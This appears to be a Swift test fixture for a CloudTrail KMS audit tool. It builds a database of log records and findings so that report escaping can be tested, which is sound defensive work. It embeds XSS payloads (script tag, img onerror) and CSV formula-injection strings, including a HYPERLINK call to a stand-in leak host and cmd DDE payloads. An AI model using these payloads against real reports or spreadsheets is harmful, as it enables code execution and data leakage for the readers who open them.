import Foundation
import GRDB
import Testing
@testable import KMSAudit

/// A real SQLite database, made through `AuditDatabase` (so through the real migrations), holding
/// real CloudTrail records from Fixtures/reports/ in `events`, two `check` runs, and findings of
/// every rule and severity the report has to show: new and not new, suppressed, an expired
/// suppression, one resolved since the previous run, and hostile log text.
struct ReportFixture {
    let directory: URL
    let database: AuditDatabase
    let runID: Int64
    let previousRunID: Int64

    // The hostile strings the issue names.
    static let scriptAgent = "<script>alert(1)</script>"
    static let imgPrincipal = #"arn:aws:iam::444455556666:role/"><img src=x onerror=alert(1)>"#
    static let imgKey = #"arn:aws:kms:us-west-2:111122223333:key/"><img src=x onerror=alert(1)>"#
    static let formulaContext: [String: String] = [
        "Hyperlink": #"=HYPERLINK("http://evil.example/?leak","Click")"#,
        "Plus": "+cmd|' /C calc'!A0",
        "Minus": "-2+3+cmd|' /C calc'!A0",
        "At": "@SUM(1+1)*cmd|' /C calc'!A0",
    ]
    /// User agents and session names that begin like formulas, as CSV cells of their own.
    static let formulaAgents = [
        #"=HYPERLINK("http://evil.example/?leak","Click")"#, "+SUM(1,1)", "-2+3", "@SUM(1,1)",
        "\t=1+1", "\r=1+1",
    ]

    static let keyUSWest2 = "arn:aws:kms:us-west-2:111122223333:key/1234abcd-12ab-34cd-56ef-1234567890ab"
    static let keyXKS = "arn:aws:kms:us-west-2:111122223333:key/0987dcba-09fe-87dc-65ba-ab0987654321"
    static let keyElastic = "arn:aws:kms:us-east-1:1010101010101:key/65479477-67d5-4b84-b71c-d540f7a8f31f"
    static let keySumo = "arn:aws:kms:us-west-1:951234567898:key/9a3d8016-4cdb-478f-a3a4-9a310fc25307"
    static let alice = "arn:aws:iam::111122223333:user/Alice"

    static var fixturesDirectory: URL {
        URL(fileURLWithPath: #filePath).deletingLastPathComponent().appendingPathComponent("Fixtures/reports")
    }

    static func fixture(_ name: String) throws -> String {
        try String(contentsOf: fixturesDirectory.appendingPathComponent(name), encoding: .utf8)
    }

    /// Builds the database in a fresh temporary directory.
    static func make() throws -> ReportFixture {
        let dir = FileManager.default.temporaryDirectory
            .appendingPathComponent("kmsaudit-report-\(UUID().uuidString)", isDirectory: true)
        try FileManager.default.createDirectory(at: dir, withIntermediateDirectories: true)
        let database = try AuditDatabase(path: dir.appendingPathComponent("audit.sqlite").path)
        var runID: Int64 = 0
        var previousRunID: Int64 = 0
        try database.queue.write { db in
            try db.execute(sql: """
                INSERT INTO ingest_runs (started_at, finished_at, tool_version, arguments, status, files_seen,
                    files_read, files_failed, records_read, events_stored)
                VALUES ('2024-10-11T02:00:00Z', '2024-10-11T02:00:04Z', '0.1.0', '["/var/log/cloudtrail"]',
                    'partial', 9, 8, 1, 13, 13)
                """)
            // Real records, one log file each, named as CloudTrail names them.
            let records: [(String, String)] = [
                ("kms-decrypt.awsdocs-1.json", "111122223333_CloudTrail_us-west-2_20200727T2300Z_a1.json.gz"),
                ("kms-decrypt.awsdocs-3.json", "111122223333_CloudTrail_us-west-2_20211026T2345Z_a3.json.gz"),
                ("kms-decrypt-failed.awsdocs-5.json", "111122223333_CloudTrail_us-west-2_20221124T0030Z_a5.json.gz"),
                ("kms-generatedatakey.awsdocs-1.json", "111122223333_CloudTrail_us-east-1_20141104T0055Z_g1.json.gz"),
                ("kms-creategrant.awsdocs-1.json", "111122223333_CloudTrail_us-east-1_20141104T0055Z_c1.json.gz"),
                ("kms-disablekey.elastic.json", "1010101010101_CloudTrail_us-east-1_20240911T0930Z_e1.json.gz"),
                ("rds-createdbcluster.sumologic.json", "951234567898_CloudTrail_us-west-1_20181028T0900Z_s1.json.gz"),
            ]
            for (name, fileName) in records {
                let fileID = try insertFile(db, name: fileName)
                try insertEvent(db, raw: try fixture(name), fileID: fileID, index: 0)
            }
            // Hostile variants of a real Decrypt record, as a caller from another account could
            // make them: the caller chooses its user agent, role name, session name and context.
            let hostileFile = try insertFile(db, name: "111122223333_CloudTrail_us-west-2_20241010T1500Z_h1.json.gz")
            let base = try fixture("kms-decrypt.awsdocs-1.json")
            for (index, agent) in ([scriptAgent] + formulaAgents).enumerated() {
                try insertEvent(db, raw: try hostile(base, index: index, agent: agent), fileID: hostileFile, index: index)
            }
            try db.execute(sql: """
                INSERT INTO files (path, object_key, kind, account, region, size, mtime_ns, status, error_kind, error, ingested_at)
                VALUES ('/var/log/cloudtrail/111122223333_CloudTrail_us-west-2_20241010T1600Z_broken.json.gz', NULL, 'log',
                    '111122223333', 'us-west-2', 18432, 0, 'failed', 'gzip',
                    'unexpected end of gzip stream at byte 18432 (truncated download?)', '2024-10-11T02:00:03Z')
                """)

            try db.execute(sql: """
                INSERT INTO runs (started_at, finished_at, tool_version, window_start, window_end, config_path,
                    config_sha256, rules, fail_on, status, findings_count)
                VALUES ('2024-10-10T02:00:00Z', '2024-10-10T02:00:09Z', '0.1.0', NULL, '2024-10-10T00:00:00Z',
                    '/etc/kmsaudit/config.yaml', 'c0ffee', '["KMS-001","KMS-002","KMS-003","KMS-004"]', 'high', 'ok', 4)
                """)
            previousRunID = db.lastInsertedRowID
            try db.execute(sql: """
                INSERT INTO runs (started_at, finished_at, tool_version, window_start, window_end, config_path,
                    config_sha256, rules, fail_on, status, findings_count)
                VALUES ('2024-10-11T02:00:05Z', '2024-10-11T02:00:12Z', '0.1.0', NULL, '2024-10-11T00:00:00Z',
                    '/etc/kmsaudit/config.yaml', 'c0ffee',
                    '[{"id":"KMS-001","title":"Key used outside ViaService RDS"},{"id":"KMS-002","title":"Key used by an unintended principal"},{"id":"KMS-003","title":"Encrypted database without backups"},{"id":"KMS-004","title":"Revoked-key exposure"}]',
                    'high', 'ok', 8)
                """)
            runID = db.lastInsertedRowID

            for f in previousFindings() { try insert(db, f, runID: previousRunID) }
            for f in currentFindings() { try insert(db, f, runID: runID) }
        }
        return ReportFixture(directory: dir, database: database, runID: runID, previousRunID: previousRunID)
    }

    /// The Decrypt record, from another account, with the caller-chosen fields made hostile.
    static func hostile(_ base: String, index: Int, agent: String) throws -> String {
        var record = try JSONSerialization.jsonObject(with: Data(base.utf8)) as! [String: Any]
        record["eventID"] = String(format: "0badc0de-0000-4000-8000-%012d", index)
        record["eventTime"] = String(format: "2024-10-10T15:%02d:00Z", index)
        record["userAgent"] = agent
        record["sourceIPAddress"] = "198.51.100.\(index + 7)"
        record["userIdentity"] = [
            "type": "AssumedRole", "principalId": "AROAEXAMPLE:" + formulaAgents[index % formulaAgents.count],
            "arn": #"arn:aws:sts::444455556666:assumed-role/"><img src=x onerror=alert(1)>/"#
                + formulaAgents[index % formulaAgents.count],
            "accountId": "444455556666",
            "sessionContext": [
                "sessionIssuer": ["type": "Role", "arn": imgPrincipal, "accountId": "444455556666"],
            ],
        ] as [String: Any]
        var parameters = record["requestParameters"] as! [String: Any]
        parameters["encryptionContext"] = formulaContext
        record["requestParameters"] = parameters
        let data = try JSONSerialization.data(withJSONObject: record, options: [.sortedKeys, .withoutEscapingSlashes])
        return String(decoding: data, as: UTF8.self)
    }

    static func insertFile(_ db: Database, name: String) throws -> Int64 {
        let parts = name.split(separator: "_")
        try db.execute(sql: """
            INSERT INTO files (path, object_key, kind, format, account, region, size, mtime_ns, status,
                records_read, events_stored, ingested_at)
            VALUES (?, ?, 'log', 'cloudtrail', ?, ?, 2048, 1728612000000000000, 'ok', 1, 1, '2024-10-11T02:00:02Z')
            """, arguments: ["/var/log/cloudtrail/" + name, "AWSLogs/\(parts[0])/CloudTrail/\(parts[2])/" + name,
                             String(parts[0]), String(parts[2])])
        return db.lastInsertedRowID
    }

    /// Stores a record as the ingest stage would: the normalised columns of docs/SCHEMA.md and `raw`.
    static func insertEvent(_ db: Database, raw: String, fileID: Int64, index: Int) throws {
        let r = try JSONSerialization.jsonObject(with: Data(raw.utf8)) as! [String: Any]
        let identity = r["userIdentity"] as? [String: Any] ?? [:]
        let type = identity["type"] as? String
        let account = identity["accountId"] as? String
        let issuer = (identity["sessionContext"] as? [String: Any])?["sessionIssuer"] as? [String: Any]
        let invokedBy = identity["invokedBy"] as? String
        let principal: String
        switch type {
        case "AssumedRole": principal = issuer?["arn"] as? String ?? identity["arn"] as? String ?? "unknown"
        case "Root", "AWSAccount": principal = "arn:aws:iam::\(account ?? "unknown"):root"
        case "AWSService": principal = invokedBy ?? "unknown"
        default: principal = identity["arn"] as? String ?? account ?? "unknown"
        }
        let resources = r["resources"] as? [[String: Any]] ?? []
        let keyARN = resources.compactMap { ($0["ARN"] ?? $0["arn"]) as? String }.first { $0.contains(":key/") }
        let parameters = r["requestParameters"] as? [String: Any]
        let errorCode = r["errorCode"] as? String
        // An assumed role's principalId is "ROLE-ID:SESSION-NAME".
        let session = type == "AssumedRole"
            ? (identity["principalId"] as? String)?.split(separator: ":", maxSplits: 1).last.map(String.init) : nil
        try db.execute(sql: """
            INSERT INTO events (event_id, event_time, event_source, event_name, event_type, aws_region, account,
                principal, principal_type, principal_account, session_name, invoked_by, source_ip, user_agent,
                key_ref, key_arn, via_rds, succeeded, error_code, error_message, shared_event_id, file_id,
                record_index, raw)
            VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
            """, arguments: [
                r["eventID"] as? String, r["eventTime"] as? String, r["eventSource"] as? String,
                r["eventName"] as? String, r["eventType"] as? String, r["awsRegion"] as? String,
                r["recipientAccountId"] as? String, principal, type, account, session, invokedBy,
                r["sourceIPAddress"] as? String, r["userAgent"] as? String, parameters?["keyId"] as? String,
                keyARN, (invokedBy ?? "").hasPrefix("rds.") ? 1 : 0, errorCode == nil ? 1 : 0, errorCode,
                r["errorMessage"] as? String, r["sharedEventID"] as? String, fileID, index, raw,
            ])
        // Ingest keeps every stored event's ID in event_ids: reports find evidence through it.
        try db.execute(sql: "INSERT INTO event_ids_recent (event_id, event_row) VALUES (?, ?)",
                       arguments: [r["eventID"] as? String, db.lastInsertedRowID])
    }

    struct FindingRow {
        var rule: String
        var severity: String
        var category: String?
        var title: String
        var key: String?
        var principal: String?
        var resource: String?
        var firstSeen: String?
        var lastSeen: String?
        var eventCount: Int
        var fingerprint: String
        var isNew: Bool
        var explanation: String
        var remediation: String
        var controls: String
        var evidence: String
        var eventIDs: [String]
        var suppressed = false
        var reason: String? = nil
        var expires: String? = nil
        var expired = false
    }

    static func insert(_ db: Database, _ f: FindingRow, runID: Int64) throws {
        try db.execute(sql: """
            INSERT INTO findings (run_id, rule_id, severity, category, title, key_arn, principal, resource,
                first_seen, last_seen, event_count, fingerprint, is_new, explanation, remediation, controls,
                evidence, suppressed, suppression_reason, suppression_expires, suppression_expired)
            VALUES (?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?, ?)
            """, arguments: [
                runID, f.rule, f.severity, f.category, f.title, f.key, f.principal, f.resource, f.firstSeen,
                f.lastSeen, f.eventCount, f.fingerprint, f.isNew, f.explanation, f.remediation, f.controls,
                f.evidence, f.suppressed, f.reason, f.expires, f.expired,
            ])
        let id = db.lastInsertedRowID
        for e in f.eventIDs {
            try db.execute(sql: "INSERT INTO finding_events (finding_id, event_id) VALUES (?, ?)", arguments: [id, e])
        }
    }

    static let kms001Remediation = """
        Add a Deny statement for kms:* with the condition StringNotEquals kms:ViaService rds.us-west-2.amazonaws.com \
        for this principal, and grant kms:Encrypt, kms:Decrypt, kms:GenerateDataKey, kms:ReEncryptTo, \
        kms:GenerateDataKeyWithoutPlaintext, kms:CreateGrant, kms:ReEncryptFrom and kms:DescribeKey only via RDS.
        """
    static let controls001 = #"["CIS AWS Foundations 3.x","NIST SP 800-53 SC-12","NIST SP 800-53 SC-28","NIST SP 800-53 AC-6"]"#
    static let controls003 = #"["AWS Security Hub Neptune.5","AWS Security Hub RDS.11","NIST SP 800-53 CP-9"]"#
    static let hostileIDs = (0...formulaAgents.count).map { String(format: "0badc0de-0000-4000-8000-%012d", $0) }

    static func currentFindings() -> [FindingRow] {
        [
            FindingRow(rule: "KMS-001", severity: "high", category: "succeeded", title: "Key used outside ViaService RDS",
                key: keyUSWest2, principal: alice, resource: nil,
                firstSeen: "2020-07-27T22:58:24Z", lastSeen: "2021-10-26T23:41:27Z", eventCount: 2,
                fingerprint: "f001a11ce", isNew: false,
                explanation: "Alice called Decrypt on a database key directly, not through RDS.\nThe key policy's ViaService restriction should have denied this use.",
                remediation: kms001Remediation, controls: controls001,
                evidence: """
                    {"event_count":2,"first_seen":"2020-07-27T22:58:24Z","last_seen":"2021-10-26T23:41:27Z",\
                    "outcome":"succeeded","event_names":["Decrypt"],"source_ips":["192.0.2.0"],\
                    "user_agents":["AWS Internal"],"sample_event_ids":["abcde202-ba1a-467c-b4ba-f729d45ae521","a79603d5-4cde-46fc-819c-a7cf547b9df4"],\
                    "sql":"SELECT * FROM events WHERE key_arn = '\(keyUSWest2)'\\n  AND principal = '\(alice)' AND via_rds = 0 AND succeeded = 1"}
                    """,
                eventIDs: ["abcde202-ba1a-467c-b4ba-f729d45ae521", "a79603d5-4cde-46fc-819c-a7cf547b9df4"]),
            FindingRow(rule: "KMS-001", severity: "low", category: "denied", title: "Key used outside ViaService RDS (denied)",
                key: keyXKS, principal: alice, resource: nil,
                firstSeen: "2022-11-24T00:26:58Z", lastSeen: "2022-11-24T00:26:58Z", eventCount: 1,
                fingerprint: "f001de41ed", isNew: true,
                explanation: "A Decrypt call outside RDS was refused (KMSInvalidStateException).",
                remediation: kms001Remediation, controls: controls001,
                evidence: #"{"event_count":1,"outcome":"denied","error_codes":["KMSInvalidStateException"],"event_names":["Decrypt"]}"#,
                eventIDs: ["b79603d5-4cde-46fc-819c-a7cf547b9df4"]),
            FindingRow(rule: "KMS-001", severity: "low", category: "denied", title: "Key used outside ViaService RDS (denied)",
                key: imgKey, principal: imgPrincipal, resource: nil,
                firstSeen: "2024-10-10T15:00:00Z", lastSeen: "2024-10-10T15:00:00Z", eventCount: 1,
                fingerprint: "f001ba5e", isNew: true,
                explanation: "A call named a key id the caller chose.", remediation: kms001Remediation,
                controls: controls001, evidence: #"{"event_count":1,"outcome":"denied"}"#, eventIDs: [hostileIDs[0]]),
            FindingRow(rule: "KMS-002", severity: "critical", category: "cross-account",
                title: "Key used by a principal of another account", key: keyUSWest2, principal: imgPrincipal,
                resource: nil, firstSeen: "2024-10-10T15:00:00Z", lastSeen: "2024-10-10T15:06:00Z",
                eventCount: hostileIDs.count, fingerprint: "f002c1055", isNew: true,
                explanation: "A role in account 444455556666 used the key; the key policy names no principal of that account.",
                remediation: "Remove the cross-account access (grant or policy statement) that let 444455556666 use the key.",
                controls: #"["NIST SP 800-53 AC-3","NIST SP 800-53 AC-6"]"#,
                evidence: """
                    {"principal_account":"444455556666","key_account":"111122223333","event_names":["Decrypt"],\
                    "source_ips":["198.51.100.7","198.51.100.8"],"user_agents":\(jsonArray([scriptAgent] + formulaAgents)),\
                    "session_names":\(jsonArray(formulaAgents)),"not_evaluable":null}
                    """,
                eventIDs: hostileIDs),
            FindingRow(rule: "KMS-002", severity: "medium", category: "root-delegation",
                title: "Key usable by any IAM identity of the account", key: keyUSWest2, principal: alice,
                resource: nil, firstSeen: "2014-11-04T00:52:40Z", lastSeen: "2014-11-04T00:52:40Z", eventCount: 1,
                fingerprint: "f002de1e9", isNew: false,
                explanation: "Alice is allowed only because the policy grants the account root.",
                remediation: "Name the principals that need the key instead of the account root.",
                controls: #"["NIST SP 800-53 AC-6"]"#,
                evidence: #"{"statement":"Enable IAM User Permissions","event_names":["GenerateDataKey"]}"#,
                eventIDs: ["a9dea4f9-8395-46c0-942c-f509c02c2b71"],
                suppressed: true, reason: "Break-glass user, reviewed in CHG-1182", expires: "2099-12-31"),
            FindingRow(rule: "KMS-002", severity: "high", category: "not-named", title: "Key used by a principal the policy does not name",
                key: keyUSWest2, principal: alice, resource: nil,
                firstSeen: "2014-11-04T00:53:12Z", lastSeen: "2014-11-04T00:53:12Z", eventCount: 1,
                fingerprint: "f002e8b1", isNew: true,
                explanation: "Alice created a grant on the key; no statement, grant or allow-list entry names her.",
                remediation: "Revoke the grant and remove Alice's access, or name her in the policy if intended.",
                controls: #"["NIST SP 800-53 AC-6"]"#,
                evidence: #"{"event_names":["CreateGrant"],"grant_operations":["Encrypt","RetireGrant"],"grantee":"EX_PRINCIPAL_ID"}"#,
                eventIDs: ["5d529779-2d27-42b5-92da-91aaea1fc4b5"],
                suppressed: false, reason: "Temporary migration grant", expires: "2024-01-31", expired: true),
            FindingRow(rule: "KMS-003", severity: "medium", category: "retention-below-minimum",
                title: "Encrypted cluster keeps backups for 1 day", key: keySumo, principal: nil,
                resource: "arn:aws:rds:us-west-1:951234567898:cluster:auroramysql57dbcluster02-cluster",
                firstSeen: "2018-10-28T08:55:37Z", lastSeen: "2018-10-28T08:55:37Z", eventCount: 1,
                fingerprint: "f003ba1c", isNew: false,
                explanation: "Automated backups are kept for 1 day, below the 7-day minimum, and no snapshot was taken in the last 7 days.",
                remediation: "- Set BackupRetentionPeriod to 7 days or more (ModifyDBCluster).\n- Copy a snapshot under a second key.",
                controls: controls003,
                evidence: """
                    {"backup_retention_period":1,"min_backup_retention_days":7,"max_snapshot_age_days":7,\
                    "storage_encrypted":true,"engine":"aurora-mysql","latest_snapshot":null,\
                    "backups":[{"snapshot":"rds:auroramysql57dbcluster02-cluster-2018-10-29","key_arn":"\(keySumo)","same_key":true}]}
                    """,
                eventIDs: ["7e554be7-0a00-4f8f-9e56-a2d54519fff9"]),
            FindingRow(rule: "KMS-004", severity: "critical", category: nil, title: "Key disabled while Neptune depends on it",
                key: keyElastic, principal: "arn:aws:iam::1010101010101:user/testcloudtrail@elastic.co",
                resource: "arn:aws:rds:us-east-1:1010101010101:cluster:neptune-graph-prod",
                firstSeen: "2024-09-11T09:29:16Z", lastSeen: "2024-09-11T09:29:16Z", eventCount: 1,
                fingerprint: "f004d15ab", isNew: true,
                explanation: "The key was disabled while a Neptune cluster was encrypted with it, and it was not re-enabled. Neptune places such a cluster in a terminal state; it can only be restored from a backup.",
                remediation: "Enable the key (EnableKey) and keep kms:Encrypt, kms:Decrypt, kms:GenerateDataKey, kms:ReEncryptTo, kms:GenerateDataKeyWithoutPlaintext, kms:CreateGrant, kms:ReEncryptFrom and kms:DescribeKey allowed via RDS.",
                controls: #"["NIST SP 800-53 SC-12","NIST SP 800-53 CP-9","NIST SP 800-53 CP-10"]"#,
                evidence: """
                    {"revocation":"DisableKey","revoked_at":"2024-09-11T09:29:16Z","undone":false,"undone_at":null,\
                    "exposure_hours":720.5,"exposed_resources":[\
                    {"resource":"arn:aws:rds:us-east-1:1010101010101:cluster:neptune-graph-prod","engine":"neptune","backups":["rds:neptune-graph-prod-2024-09-10"],"backup_key":"\(keyElastic)","backup_under_other_key":false},\
                    {"resource":"arn:aws:rds:us-east-1:1010101010101:cluster:neptune-graph-dr","engine":"neptune","backups":[],"backup_key":null,"backup_under_other_key":false}],\
                    "via_rds_failures_after":3,"failure_codes":["DisabledException"]}
                    """,
                eventIDs: ["4a3864f4-8562-48e6-a0e5-795d63095b63", "ffffffff-0000-4000-8000-00000000dead"]),
        ]
    }

    static func previousFindings() -> [FindingRow] {
        let current = currentFindings()
        var previous = current.filter { !$0.isNew }
        previous.append(FindingRow(rule: "KMS-001", severity: "high", category: "succeeded",
                            title: "Key used outside ViaService RDS", key: keyUSWest2,
                            principal: "arn:aws:iam::111122223333:user/Bob", resource: nil,
                            firstSeen: "2020-07-01T00:00:00Z", lastSeen: "2020-07-02T00:00:00Z", eventCount: 4,
                            fingerprint: "f001b0b", isNew: true, explanation: "Bob used the key outside RDS.",
                            remediation: kms001Remediation, controls: controls001, evidence: "{}", eventIDs: []))
        return previous
    }

    static func jsonArray(_ values: [String]) -> String {
        String(decoding: try! JSONSerialization.data(withJSONObject: values), as: UTF8.self)
    }

    func findingCount() throws -> Int {
        try database.queue.read { db in
            try Int.fetchOne(db, sql: "SELECT count(*) FROM findings WHERE run_id = ?", arguments: [runID]) ?? 0
        }
    }

    func model(eventLimit: Int? = ReportModel.defaultEventLimit) throws -> ReportModel {
        try ReportModel.load(from: database, runID: nil, eventLimit: eventLimit)
    }

    func remove() { try? FileManager.default.removeItem(at: directory) }
}

@Suite struct ReportFixtureTests {
    @Test func fixtureStoresTheRealRecordsVerbatim() throws {
        let fixture = try ReportFixture.make()
        defer { fixture.remove() }
        let raw = try fixture.database.queue.read { db in
            try String.fetchOne(db, sql: "SELECT raw FROM events WHERE event_id = '4a3864f4-8562-48e6-a0e5-795d63095b63'")
        }
        #expect(raw == (try ReportFixture.fixture("kms-disablekey.elastic.json")))
        #expect(try fixture.findingCount() == 8)
    }
}
